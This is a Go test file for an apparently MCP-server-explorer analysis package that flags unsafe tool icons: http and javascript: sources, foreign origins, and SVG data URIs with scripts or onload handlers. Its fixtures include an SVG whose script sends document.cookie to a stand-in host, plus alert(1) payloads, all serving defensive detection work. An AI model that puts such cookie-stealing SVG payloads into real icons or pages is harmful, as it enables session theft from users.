package analysis_test

import (
	"encoding/base64"
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/usefulweb/mcp-server-explorer/shared/analysis"
)

func iconRules(t *testing.T, icons, serverURL string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, f := range analysis.IconFindings(json.RawMessage(icons), serverURL) {
		out[f.Rule] = f.Message
	}
	return out
}

func TestIconFindings(t *testing.T) {
	const server = "https://mcp.example.com/mcp"
	clean := `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="3" font-size="2"/></svg>`
	script := `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//x.example/'+document.cookie)</script></svg>`
	handler := `<svg xmlns="http://www.w3.org/2000/svg"><rect width="8" height="8" onload="alert(1)"/></svg>`
	b64 := func(s string) string {
		return "data:image/svg+xml;base64," + base64.StdEncoding.EncodeToString([]byte(s))
	}
	cases := []struct {
		name, icons, rule, says string
	}{
		{"http", `[{"src":"http://mcp.example.com/icon.png"}]`, "icon-unsafe-source", `uses http:`},
		{"javascript", `[{"src":"javascript:alert(1)"}]`, "icon-unsafe-source", `uses javascript:`},
		{"relative", `[{"src":"/icon.png"}]`, "icon-unsafe-source", "not an absolute URI"},
		{"no src", `[{"mimeType":"image/png"}]`, "icon-unsafe-source", "no src"},
		{"not an array", `{"src":"https://mcp.example.com/i.png"}`, "icon-unsafe-source", "not an array"},
		{"foreign", `[{"src":"https://cdn.tracker.example/i.png"}]`, "icon-foreign-origin", `"https://cdn.tracker.example"`},
		{"other port", `[{"src":"https://mcp.example.com:8443/i.png"}]`, "icon-foreign-origin", "8443"},
		{"script base64", `[{"src":"` + b64(script) + `"}]`, "icon-svg-script", `"<script"`},
		{"handler percent-encoded", `[{"src":"data:image/svg+xml,` + url.PathEscape(handler) + `"}]`, "icon-svg-script", `onload`},
		{"svg by mimeType", `[{"src":"data:application/octet-stream;base64,` + base64.StdEncoding.EncodeToString([]byte(script)) + `","mimeType":"image/svg+xml"}]`, "icon-svg-script", "<script"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := iconRules(t, c.icons, server)
			if msg, ok := got[c.rule]; !ok || !strings.Contains(msg, c.says) || len(got) != 1 {
				t.Errorf("findings %v, want only %s saying %q", got, c.rule, c.says)
			}
		})
	}
	for _, keep := range []string{
		`[{"src":"https://mcp.example.com/icon.png","sizes":["48x48"]},{"src":"https://MCP.example.com:443/dark.png","theme":"dark"}]`,
		`[{"src":"` + b64(clean) + `","mimeType":"image/svg+xml"}]`,
		`[{"src":"data:image/png;base64,iVBORw0KGgo="}]`,
		`null`, ``,
	} {
		if got := iconRules(t, keep, server); len(got) != 0 {
			t.Errorf("%.80s: %v", keep, got)
		}
	}
	// Without the server's URL, the origin cannot be compared.
	if got := iconRules(t, `[{"src":"https://cdn.tracker.example/i.png"}]`, ""); len(got) != 0 {
		t.Errorf("origin checked without a server URL: %v", got)
	}
}

// Tool icons are read from a paste and reported as the tool's issues.
func TestToolIconsAreChecked(t *testing.T) {
	for _, paste := range []string{
		`{"tools":[{"name":"get_weather","description":"Gets the weather for a city.","inputSchema":{"type":"object"},"icons":[{"src":"http://img.example/w.png"}]}]}`,
		`[{"name":"get_weather","description":"Gets the weather for a city.","inputSchema":{"type":"object"},"icons":[{"src":"http://img.example/w.png"}]}]`,
	} {
		tools, err := analysis.ParseTools(paste)
		if err != nil {
			t.Fatal(err)
		}
		rep := analysis.Analyze(tools, analysis.Options{ServerURL: "https://weather.example/mcp"})
		issues := strings.Join(rep.Tools[0].Issues, "\n")
		if !strings.Contains(issues, "icon-unsafe-source: icon 1's src \"http://img.example/w.png\" uses http:") || len(rep.Tools[0].Issues) != len(rep.Tools[0].Findings) {
			t.Errorf("issues %v", rep.Tools[0].Issues)
		}
	}
}

func FuzzIconFindings(f *testing.F) {
	f.Add(`[{"src":"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4="}]`, "https://a.example/mcp")
	f.Add(`[{"src":"data:image/svg+xml,%3Csvg"}]`, "")
	f.Fuzz(func(t *testing.T, icons, server string) {
		analysis.IconFindings(json.RawMessage(icons), server)
	})
}
